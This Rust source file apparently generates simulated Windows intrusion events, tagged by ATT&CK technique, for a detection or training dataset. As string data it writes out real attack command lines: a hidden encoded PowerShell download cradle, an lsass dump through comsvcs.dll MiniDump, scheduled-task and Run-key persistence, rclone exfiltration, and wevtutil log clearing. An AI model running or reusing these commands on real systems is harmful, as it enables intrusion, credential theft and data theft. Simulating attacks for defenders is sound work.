//! What happens on the machine that the intruder sits on?

use std::rc::Rc;

use super::intruder::{Intruder, Known, folder};
use crate::act::{Deed, FileDeed, Service, Transfer, Way};
use crate::court::{AccountKind, HoldingId, PersonId};
use crate::life::shared_file;
use crate::moment::{MINUTE, MS, SECOND};
use crate::truth::Grade;
use crate::world::{Arrival, Talk, World};

const CMD: &str = "C:\\Windows\\System32\\cmd.exe";
const POWERSHELL: &str = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
const RAR: &str = "C:\\ProgramData\\SyncHost\\rar.exe";

/// A mail with a document; who opens it starts what it brings.
pub(super) fn phish(intruder: &mut Intruder<'_>, world: &mut World<'_>) {
    // It is sent to several; the first who is at work opens it.
    let court = world.court;
    let at_work = |victim: &PersonId| {
        world
            .console_today(court.person(*victim).device, court.person(*victim).account)
            .map(|console| (*victim, console))
    };
    let Some((victim, console)) = intruder.candidates.iter().find_map(at_work) else { return };
    intruder.victim = victim;
    let (host, account) = (court.person(victim).device, intruder.account(court));
    intruder.at = intruder.at.clamp(console.0.opened, console.1 - 60 * MINUTE) + 9 * MINUTE;
    let session = console.0;
    let services = world.services(host);
    let server = Intruder::outside(&intruder.scenario.actor.servers, 0);

    intruder.step(world, "T1566.001", host, account, true);
    let outlook = world.start(intruder.at - MINUTE, &session, &services, crate::life::OUTLOOK, "OUTLOOK.EXE");
    let path = "C:\\Users\\Public\\Downloads\\Note verbale \u{202e}xcod.docm";
    let mail = Some("https://outlook.mailcloud.example/".into());
    let file = Deed::MakeFile { process: Rc::clone(&outlook), path: path.into(), from_web: mail };
    world.add(intruder.at, host, &session, file);

    intruder.moment();
    intruder.step(world, "T1204.002", host, account, true);
    let command = format!("\"{}\" /n \"{path}\"", crate::life::WORD);
    let word = world.start(intruder.at, &session, &outlook, crate::life::WORD, &command);

    intruder.moment();
    if let Some(step) = intruder.step(world, "T1059.001", host, account, true) {
        intruder.known.push(Known::Step(step));
    }
    let script = format!(
        "$w=New-Object Net.WebClient;$w.DownloadFile('https://{}/a/syncsvc.bin',$env:ProgramData+'\\SyncHost\\syncsvc.exe')",
        server.name
    );
    let encoded = data_encoding_utf16(&script);
    let command = format!("powershell.exe -nop -w hidden -enc {encoded}");
    let shell = world.start(intruder.at, &session, &word, POWERSHELL, &command);
    world.add(
        intruder.at + 700 * MS,
        host,
        &session,
        Deed::Script { process: Rc::clone(&shell), text: script.into() },
    );

    intruder.moment();
    intruder.step(world, "T1105", host, account, true);
    world.browse(intruder.at, &shell, &server, Talk { sent: 900, received: 486_912, lasted: 2 * SECOND });
    let image: Rc<str> = "C:\\ProgramData\\SyncHost\\syncsvc.exe".into();
    let file = Deed::MakeFile { process: Rc::clone(&shell), path: Rc::clone(&image), from_web: None };
    world.add(intruder.at + 2 * SECOND, host, &session, file);
    for (process, after) in [(&shell, 20), (&word, 600), (&outlook, 620)] {
        world.end(intruder.at + after * SECOND, process);
    }
    intruder.foothold = Some(host);
}

/// Standard base 64 of UTF-16LE, as PowerShell's `-enc` takes it.
fn data_encoding_utf16(text: &str) -> String {
    const DIGITS: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let bytes: Vec<u8> = text.encode_utf16().flat_map(u16::to_le_bytes).collect();
    let mut out = String::new();
    for group in bytes.chunks(3) {
        let word =
            group.iter().fold(0_u32, |word, byte| word << 8 | u32::from(*byte)) << (8 * (3 - group.len()));
        for digit in 0..4 {
            let padding = digit > group.len();
            let index = (word >> (18 - 6 * digit) & 63) as usize;
            out.push(if padding { '=' } else { char::from(DIGITS[index]) });
        }
    }
    out
}

/// Who am I, where am I, who else is there.
pub(super) fn discover(intruder: &mut Intruder<'_>, world: &mut World<'_>) {
    let Some(host) = intruder.foothold else { return };
    let account = intruder.account(world.court);
    let Some(implant) = intruder.implant(world) else { return };
    for (technique, image, command) in [
        ("T1033", "C:\\Windows\\System32\\whoami.exe", "whoami /all"),
        ("T1482", "C:\\Windows\\System32\\nltest.exe", "nltest /domain_trusts"),
        ("T1069.002", "C:\\Windows\\System32\\net.exe", "net group \"Domain Admins\" /domain"),
        ("T1018", "C:\\Windows\\System32\\net.exe", "net view /all"),
    ] {
        intruder.moment();
        intruder.step(world, technique, host, account, true);
        let session = Rc::clone(&implant.session);
        world.run(intruder.at, 300 * MS, &session, &implant, (image, command));
    }
}

/// A scheduled task starts the program with the machine.
pub(super) fn persist_task(intruder: &mut Intruder<'_>, world: &mut World<'_>) {
    let Some(host) = intruder.foothold else { return };
    let account = intruder.account(world.court);
    let Some(implant) = intruder.implant(world) else { return };
    intruder.moment();
    intruder.step(world, "T1053.005", host, account, true);
    let session = Rc::clone(&implant.session);
    let command = "schtasks /create /tn \"\\SyncHost\\Update\" /tr C:\\ProgramData\\SyncHost\\syncsvc.exe /sc onstart /ru SYSTEM";
    world.run(intruder.at, 400 * MS, &session, &implant, ("C:\\Windows\\System32\\schtasks.exe", command));
    let deed = Deed::Task {
        name: "\\SyncHost\\Update".into(),
        command: "C:\\ProgramData\\SyncHost\\syncsvc.exe -k".into(),
    };
    world.add(intruder.at + 200 * MS, host, &session, deed);
    intruder.persisted = true;
    intruder.controlled.push((host, intruder.at));
}

/// A run key starts it with the victim's presence.
pub(super) fn persist_run_key(intruder: &mut Intruder<'_>, world: &mut World<'_>) {
    let Some(host) = intruder.foothold else { return };
    let account = intruder.account(world.court);
    let Some(implant) = intruder.implant(world) else { return };
    intruder.moment();
    intruder.step(world, "T1547.001", host, account, true);
    let deed = Deed::SetValue {
        process: Rc::clone(&implant),
        key: "HKU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\SyncHost".into(),
        value: "C:\\ProgramData\\SyncHost\\syncsvc.exe -k".into(),
    };
    world.add(intruder.at, host, &implant.session, deed);
    intruder.persisted = true;
}

/// The memory of lsass holds the credentials of whoever was there: an administrator was.
pub(super) fn dump_credentials(intruder: &mut Intruder<'_>, world: &mut World<'_>) {
    let court = world.court;
    let Some(host) = intruder.foothold else { return };
    let account = intruder.account(court);
    let Some(implant) = intruder.implant(world) else { return };
    intruder.moment();
    let succeeded = intruder.succeeds();
    intruder.step(world, "T1003.001", host, account, succeeded);
    // The tool runs as the system, whether it gets what it is after or not.
    intruder.controlled.push((host, intruder.at));
    let machine = world.machine(host);
    let services = world.services(host);
    let lsass = Rc::new(crate::act::Process {
        number: 0x0c,
        pid: 744,
        image: "C:\\Windows\\System32\\lsass.exe".into(),
        command: "C:\\Windows\\system32\\lsass.exe".into(),
        since: services.since + SECOND,
        ..crate::act::Process::clone(&services)
    });
    let command =
        "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 744 C:\\ProgramData\\SyncHost\\m.dmp full";
    let tool = world.run(
        intruder.at,
        3 * SECOND,
        &machine,
        &implant,
        ("C:\\Windows\\System32\\rundll32.exe", command),
    );
    world.add(
        intruder.at + SECOND,
        host,
        &machine,
        Deed::OpenProcess { process: Rc::clone(&tool), target: lsass, rights: 0x1f_ffff },
    );
    if succeeded {
        let path = "C:\\ProgramData\\SyncHost\\m.dmp".into();
        world.add(
            intruder.at + 2 * SECOND,
            host,
            &machine,
            Deed::MakeFile { process: tool, path, from_web: None },
        );
    }
    // Where the dump fails, a ticket in memory does: the administrator is reached either way.
    intruder.admin = court.people.iter().find_map(|person| person.admin);
}

/// What was found is read over the network into an archive on the foothold.
pub(super) fn stage(intruder: &mut Intruder<'_>, world: &mut World<'_>) {
    let court = world.court;
    let Some(host) = intruder.foothold else { return };
    let account = intruder.admin.unwrap_or_else(|| intruder.account(court));
    let found: Vec<_> = intruder.found.clone();
    let open = |holding: &HoldingId| {
        folder(court, *holding).is_some() && intruder.gets_into(court, account, *holding)
    };
    let found: Vec<_> = found.into_iter().filter(open).take(3).collect();
    for holding in found {
        let Some((share, path)) = folder(court, holding) else { continue };
        let items = intruder.take_of(court, holding);
        if items.is_empty() {
            continue;
        }
        intruder.moment();
        intruder.step(world, "T1560.001", host, account, true);
        intruder.controlled.push((host, intruder.at));
        let machine = world.machine(host);
        let services = world.services(host);
        let root = format!("\\\\{}\\{}", court.host(court.share(share).host).name, court.share(share).name);
        let command =
            format!("{RAR} a -r -hp********** -v50m C:\\ProgramData\\SyncHost\\d1.rar \"{root}\\{path}\\*\"");
        let tool = world.start(intruder.at, &machine, &services, RAR, &command);
        let session = reading_session(intruder, world, share);
        for item in items {
            intruder.at = intruder.at + intruder.dice.between(200, 4000) * MS;
            let file = shared_file(court, item);
            let deed = FileDeed::Read(file.size);
            world.add(intruder.at, session.host, &session, Deed::File { file, deed });
            intruder.reached(world, item, Grade::Collected, intruder.at);
            intruder.staged.push(item);
        }
        let made = Deed::MakeFile {
            process: Rc::clone(&tool),
            path: "C:\\ProgramData\\SyncHost\\d1.part1.rar".into(),
            from_web: None,
        };
        world.add(intruder.at + SECOND, host, &machine, made);
        world.end(intruder.at + 2 * SECOND, &tool);
        world.leave(intruder.at + 10 * MINUTE, &session);
    }
}

/// The presence on the file server through which files are read: over the network from the
/// foothold, in the name of the best account there is.
pub(super) fn reading_session(
    intruder: &Intruder<'_>,
    world: &mut World<'_>,
    share: crate::court::ShareId,
) -> Rc<crate::act::Session> {
    let court = world.court;
    let server = court.share(share).host;
    let account = intruder.admin.unwrap_or_else(|| intruder.account(court));
    let step = world.step;
    let device = intruder.foothold;
    let (device, address) = match (&intruder.tunnel, device) {
        (Some((_, inside, _)), _) => {
            (intruder.through_device.then(|| court.person(intruder.victim).device), inside.clone())
        }
        (None, Some(host)) => (Some(host), court.host(host).address.clone()),
        (None, None) => (
            Some(court.person(intruder.victim).device),
            court.host(court.person(intruder.victim).device).address.clone(),
        ),
    };
    let name = device.map_or_else(|| "DESKTOP-7Q2LM1K".to_owned(), |host| court.host(host).name.clone());
    let arrival = Arrival::over_network(account, server, device, &address)
        .by(Way::Network)
        .elevated(matches!(court.account(account).kind, AccountKind::Administrator(_)))
        .intruder(!intruder.innocent);
    let arrival = if intruder.admin.is_some() { arrival.ntlm(&name) } else { arrival };
    let session = world.arrive(intruder.at - SECOND, &arrival);
    world.add(intruder.at - 500 * MS, server, &session, Deed::Share(share));
    world.step = step;
    session
}

/// A part of the archive goes out.
pub(super) fn send_out(intruder: &mut Intruder<'_>, world: &mut World<'_>) {
    let court = world.court;
    let left = intruder.staged.len() - intruder.sent;
    let (Some(host), true) = (intruder.foothold, left > 0) else { return };
    let account = intruder.account(court);
    let Some(implant) = intruder.implant(world) else { return };
    let drop = Intruder::outside(&intruder.scenario.actor.drops, 0);
    let part = left.div_ceil(2).max(1);
    let items: Vec<_> = intruder.staged[intruder.sent..][..part].to_vec();
    let bytes: u64 = items.iter().map(|item| court.item(*item).bytes).sum();
    let session = Rc::clone(&implant.session);
    if !intruder.succeeds() {
        // Refused, but the body was sent all the same.
        intruder.moment();
        intruder.step(world, "T1567.002", host, account, false);
        upload(intruder, world, &implant, drop, bytes, 401);
        for item in &items {
            intruder.reached(world, *item, Grade::Left, intruder.at);
        }
        intruder.at = intruder.at + 5 * MINUTE;
    }
    intruder.step(world, "T1567.002", host, account, true);
    let tool = "C:\\ProgramData\\SyncHost\\rclone.exe";
    let command = format!(
        "{tool} copy C:\\ProgramData\\SyncHost\\d1.part{}.rar box:in --bwlimit 400k",
        intruder.sent / 8 + 1
    );
    let process = world.run(intruder.at, 20 * MINUTE, &session, &implant, (tool, &command));
    upload(intruder, world, &process, drop, bytes, 200);
    for item in &items {
        intruder.reached(world, *item, Grade::Left, intruder.at);
    }
    intruder.sent += items.len();
}

fn upload(
    intruder: &mut Intruder<'_>,
    world: &mut World<'_>,
    process: &Rc<crate::act::Process>,
    to: crate::world::Outside<'_>,
    bytes: u64,
    status: u16,
) {
    let session = Rc::clone(&process.session);
    let host = session.host;
    let (name, address): (Rc<str>, Rc<str>) = (to.name.into(), to.address.into());
    let resolve =
        Deed::Resolve { process: Rc::clone(process), name: Rc::clone(&name), address: Rc::clone(&address) };
    world.add(intruder.at, host, &session, resolve);
    let service = Service::Http {
        method: "PUT",
        path: "/in/d1.part1.rar".into(),
        status,
        agent: "rclone/v1.66.0".into(),
        media: "application/x-rar",
    };
    let transfer = Transfer {
        process: Some(Rc::clone(process)),
        name: Some(name),
        address,
        port: 80,
        from_port: 50_000 + intruder.dice.below(9000) as u16,
        service,
        // Documents shrink by about half.
        sent: bytes / 2 + 2048,
        received: 640,
        lasted: (bytes / 400_000 + 1) as i64 * SECOND,
    };
    world.add(intruder.at + 300 * MS, host, &session, Deed::Connect(transfer));
}

/// Tools and loot are deleted.
pub(super) fn delete_tools(intruder: &mut Intruder<'_>, world: &mut World<'_>) {
    let Some(host) = intruder.foothold else { return };
    let account = intruder.account(world.court);
    let Some(implant) = intruder.implant(world) else { return };
    intruder.moment();
    intruder.step(world, "T1070.004", host, account, true);
    let session = Rc::clone(&implant.session);
    let command = "cmd.exe /c del /q C:\\ProgramData\\SyncHost\\*.rar C:\\ProgramData\\SyncHost\\m.dmp";
    let shell = world.run(intruder.at, SECOND, &session, &implant, (CMD, command));
    for path in ["C:\\ProgramData\\SyncHost\\d1.part1.rar", "C:\\ProgramData\\SyncHost\\m.dmp"] {
        let deed = Deed::DropFile { process: Rc::clone(&shell), path: path.into() };
        world.add(intruder.at + 100 * MS, host, &session, deed);
    }
}

/// Logs of the foothold are cleared.
pub(super) fn clear_logs(intruder: &mut Intruder<'_>, world: &mut World<'_>) {
    let Some(host) = intruder.foothold else { return };
    let account = intruder.account(world.court);
    let Some(implant) = intruder.implant(world) else { return };
    intruder.moment();
    intruder.step(world, "T1070.001", host, account, true);
    let session = Rc::clone(&implant.session);
    let tool = "C:\\Windows\\System32\\wevtutil.exe";
    world.run(intruder.at, 200 * MS, &session, &implant, (tool, "wevtutil cl Security"));
    world.add(intruder.at + 100 * MS, host, &session, Deed::LogCleared("Security"));
    let at = intruder.at + 100 * MS;
    world.cleared.push((host, "windows/Security", at));
}
